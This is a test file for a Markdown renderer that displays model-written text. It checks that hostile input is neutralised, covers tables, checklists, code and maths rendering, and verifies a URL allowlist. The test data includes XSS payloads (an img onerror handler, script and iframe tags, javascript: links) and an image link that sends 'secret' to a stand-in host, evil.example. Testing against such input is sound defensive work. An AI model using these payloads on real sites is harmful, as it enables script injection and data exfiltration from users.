import { screen, waitFor } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { show } from "../../test/render";
import { safeAddress } from "./block-view";
import { Markdown } from "./markdown";

describe("what a model writes", () => {
  it("never becomes markup of the page", async () => {
    const hostile = [
      '<img src=x onerror="window.pwned=1">',
      "<script>window.pwned=1</script>",
      "[a](javascript:alert(1)) ![b](https://evil.example/?q=secret) [c](/api/auth/logout)",
      "<iframe src='https://evil.example'></iframe>",
    ].join("\n\n");
    const { container } = await show(<Markdown text={hostile} />);
    expect(container.querySelector("img, script, iframe")).toBeNull();
    expect(container.textContent).toContain("<script>window.pwned=1</script>");
    const links = [...container.querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual(["https://evil.example/?q=secret"]);
    expect(links[0]?.rel).toContain("noopener");
  });

  it("is a table, a list with boxes, code that can be copied, and maths", async () => {
    const text =
      "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\n```js\nconst a = 1;\n```\n\n$$\nx^2\n$$";
    const { container } = await show(<Markdown text={text} />);
    expect(screen.getAllByRole("columnheader").map((c) => c.textContent)).toEqual(["a", "b"]);
    expect(screen.getAllByRole<HTMLInputElement>("checkbox").map((c) => c.checked)).toEqual([true, false]);
    expect(screen.getByRole("button", { name: "Copy the code" })).toBeTruthy();
    await waitFor(() => expect(container.querySelector(".hljs-keyword")?.textContent).toBe("const"));
    await waitFor(() => expect(container.querySelector(".katex math")).toBeTruthy());
  });

  it("survives nesting without end and texts without measure", async () => {
    const { container } = await show(
      <>
        <Markdown text={`${"> ".repeat(300)}deep`} />
        <Markdown text={"# long\n".repeat(60_000)} />
      </>,
    );
    expect(container.querySelectorAll("blockquote").length).toBeLessThan(60);
    expect(container.querySelector("pre")?.textContent?.startsWith("# long\n# long")).toBe(true);
  });
});

it.each([
  ["https://example.org", true],
  ["mailto:a@example.org", true],
  ["javascript:alert(1)", false],
  ["data:text/html,x", false],
  ["/relative", false],
])("leads to %s: %s", (url, ok) => {
  expect(safeAddress(url) !== null).toBe(ok);
});
